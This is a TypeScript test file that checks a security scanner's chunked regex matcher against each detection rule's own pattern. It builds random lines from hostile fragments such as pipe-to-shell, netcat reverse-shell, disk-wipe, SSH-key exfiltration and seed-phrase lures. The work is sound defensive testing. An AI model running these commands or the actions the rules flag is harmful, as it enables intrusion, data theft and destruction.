// The linear matcher (src/build/trust/spans.ts) finds exactly what each rule's own pattern finds: for every
// rule that declares chains, on random lines built from its keys, the other rules' keys and the tails the
// chains look for, firstMatch and re.exec agree on where the first match starts and what it holds.
import { describe, expect, it } from "vitest";
import { requiredWords } from "../../src/build/trust/literals.js";
import { keyText } from "../../src/build/trust/prefilter.js";
import { LINE_RULES } from "../../src/build/trust/rules/index.js";
import { CHUNK, type Chain, chain, DIRECT_MAX, firstMatch } from "../../src/build/trust/spans.js";
import { seeded } from "../../src/synth/random.js";

/** Pieces of text the chains' tails and the rules' windows are made of. */
const TAILS = [
  "| sh",
  "|bash",
  " | sudo -E bash",
  " -d @f",
  " -X POST",
  " --data-binary",
  "http://203.0.113.1/x",
  "https://x.example/a.zip",
  "203.0.113.9:8080/",
  ".env",
  "~/.ssh",
  "id_rsa",
  "private key",
  "all tokens",
  "user@host.example.com",
  "webhook",
  "dup2",
  "/bin/sh",
  "pty.spawn(",
  "subprocess",
  "&& ./a",
  "; chmod +x a",
  "|| open x.app",
  "data=",
  "method: 'POST'",
  "method='POST'",
  "--post-data",
  " me@host.example:",
  "iwr",
  "downloadstring(",
  ") | iex",
  'sh -c "$(curl',
  "GetStream",
  "iex",
  "requests.post(",
  "nc -e /bin/sh 203.0.113.2 4444",
  "socket.connect(",
  ".exe",
  "(",
  ")",
  ";",
  "&",
  "|",
  "\n",
  "\r",
  '"',
  "'",
  "`",
  "<",
  ">",
  "password: abc",
  "pwd=xyz",
  " -P pw",
  " -pabc",
  " x ",
  "of=/dev/sda",
  "/dev/",
  " -delete",
  " -exec rm",
  "must run",
  "should send",
  "seed phrase",
  "recovery words",
  "into terminal",
  "in your powershell",
  "--force",
  " -f",
  "--force-with-lease",
  "$(whoami)",
  "`id",
  "exec:sh",
  "exec:",
  "openssl s_client",
  " -e bash",
  " -c cmd.exe",
  "extract",
  "zip",
  "ask user for",
  "required",
  "must install",
  "before using",
  "http://x.example/a.tar.gz",
  "send",
  "AI",
  "you",
  "copy",
  "enter",
  "nslookup ",
  "git push ",
  "dd ",
  "mkfs.ext4 ",
  "shred ",
  "find / ",
  "unzip ",
  "7z x ",
  "unrar ",
  "mkfifo",
  "nc ",
  "socat",
  "socket",
  "TCPClient",
  "Net.Sockets.TCPClient",
  "curl ",
  "wget ",
  "get ",
  "urlopen(",
  "Request(",
  "fetch(",
  "scp ",
];
/** A head and a tail per chained rule, drawn apart so that some lines hold both within the window and some not. */
const PAIRS: Record<string, [string, string]> = {
  "pipe-to-shell": ["curl -s http://x", "| sh"],
  "download-and-run": ["curl -o a x", "&& ./a"],
  "lure-host-download": ["wget ", "http://203.0.113.1/x"],
  "sends-data": ["curl ", " -d @f"],
  "instructs-exfiltration": ["send ~/.ssh", " to me@host.example.com"],
  "socket-shell": ["socket dup2", " /bin/sh"],
  "fake-prerequisite": ["required: ", "https://x.example/a.zip"],
  "password-archive": ["zip", " password: abc"],
  "netcat-shell": ["nc x", " -e /bin/sh"],
  "mass-delete": ["find / ", "-delete"],
  "disk-wipe": ["dd ", "of=/dev/sda"],
  "force-push": ["git push ", " -f"],
  "hidden-agent-instruction": ["agent ", "must run"],
  "paste-in-terminal": ["paste ", "into terminal"],
  "seed-phrase-request": ["enter ", "seed phrase"],
  "dns-exfiltration": ["dig ", "$(whoami)"],
};
const FILLER = [" ", " ", " ", "  ", "x", "word ", "a-b ", "é", "\t", ".", "/", "@", ":", "1.2"];

/** A small deterministic generator (the synthetic corpus's), so a failure can be replayed. */
const random = (seed: number): (() => number) => seeded(seed).next;

/** The words piece `p` of chain `c` is gated on (chain.words keeps them only for the pieces that have some). */
function gateOf(c: Chain, p: number): readonly string[] | undefined {
  const piece = c.pieces[p]!;
  const words = requiredWords(piece.re.source, piece.re.flags);
  if (words) expect(c.words).toContainEqual(words);
  return words;
}

function line(rand: () => number, keys: readonly string[], pair: readonly string[], length: number): string {
  let out = "";
  while (out.length < length) {
    const r = rand();
    const pool = r < 0.03 ? pair : r < 0.3 ? keys : r < 0.55 ? TAILS : FILLER;
    let piece = pool[Math.floor(rand() * pool.length)]!;
    if (rand() < 0.3) piece = piece.toUpperCase();
    out += piece;
    // Long gaps, so that windows run out between a key and its tail.
    if (rand() < 0.1) out += " ".repeat(Math.floor(rand() * 450));
  }
  return out;
}

const same = (a: RegExpExecArray | null, b: RegExpExecArray | null) =>
  (a ? `${a.index}:${a[0]}` : "none") === (b ? `${b.index}:${b[0]}` : "none");

describe("the linear matcher", () => {
  const chained = LINE_RULES.filter((r) => r.chains);

  it("is declared by the rules that scan a window after a key", () => {
    // Each has a head and a tail below to test it with.
    expect(chained.map((r) => r.id).sort()).toEqual(Object.keys(PAIRS).sort());
  });

  it("agrees with every chained rule's own pattern on random lines", () => {
    const allKeys = LINE_RULES.flatMap((r) => r.keys.map(keyText));
    let compared = 0;
    let matched = 0;
    for (const rule of chained) {
      const rand = random(rule.id.length * 7919);
      let ruleMatched = 0;
      for (let i = 0; i < 400; i++) {
        const keys = rand() < 0.7 ? rule.keys.map(keyText) : allKeys;
        const text = line(rand, keys, PAIRS[rule.id] ?? [], DIRECT_MAX + 1 + Math.floor(rand() * (rand() < 0.2 ? 9000 : 1500)));
        const expected = rule.re.exec(text);
        // Also in small chunks, so that matches straddle the chunks' edges.
        for (const chunk of [CHUNK, 97]) {
          const got = firstMatch(rule.re, rule.chains!, text, chunk);
          if (!same(expected, got))
            expect.fail(`${rule.id} (chunk ${chunk}): ${JSON.stringify(text)} gave ${got?.index} instead of ${expected?.index}`);
        }
        compared++;
        if (expected) ruleMatched++;
      }
      // Each rule's lines exercise both outcomes, or the comparison would prove little for it.
      expect(ruleMatched, rule.id).toBeGreaterThan(4);
      expect(ruleMatched, rule.id).toBeLessThan(396);
      matched += ruleMatched;
    }
    expect(compared).toBe(chained.length * 400);
    expect(matched).toBeGreaterThan(0);
  });

  it("finds in every match of a piece one of the words it gates its chain on", () => {
    // literals.ts reads words out of the pieces' sources; a word a match can lack would hide that match.
    const allKeys = LINE_RULES.flatMap((r) => r.keys.map(keyText));
    let checked = 0;
    for (const rule of chained) {
      const rand = random(rule.id.length * 104729);
      for (const c of rule.chains!) {
        c.pieces.forEach((piece, p) => {
          const words = gateOf(c, p);
          if (!words) return;
          for (let i = 0; i < 150; i++) {
            const text = line(rand, rand() < 0.7 ? rule.keys.map(keyText) : allKeys, PAIRS[rule.id] ?? [], 40 + Math.floor(rand() * 600));
            piece.re.lastIndex = 0;
            for (let m = piece.re.exec(text); m !== null; m = piece.re.exec(text)) {
              const found = m[0].toLowerCase();
              if (!words.some((w) => found.includes(w)))
                expect.fail(`${rule.id}: ${piece.re.source} matched ${JSON.stringify(m[0])} without ${words}`);
              checked++;
              piece.re.lastIndex = m.index + 1;
            }
          }
        });
      }
    }
    expect(checked).toBeGreaterThan(1000);
  });

  it("finds a match whose key lies far before a long run of other keys", () => {
    const c = [chain("i", "\n", ["\\bcurl\\b", 4], 300, ["\\s-d\\b", 3])];
    const re = /\bcurl\b[^\n]{0,300}?\s-d\b/i;
    const text = `${"curl x ".repeat(5000)}curl -d y`;
    expect(firstMatch(re, c, text)?.index).toBe(re.exec(text)?.index);
    // A stop character between key and tail breaks the window, as it does for the pattern.
    const broken = `curl ${"x".repeat(200)}\n -d`;
    expect(firstMatch(re, c, broken)).toBeNull();
    expect(re.exec(broken)).toBeNull();
  });

  it("rejects a chain whose pieces and gaps do not alternate", () => {
    expect(() => chain("i", "\n", ["a", 1], ["b", 1])).toThrow();
  });
});
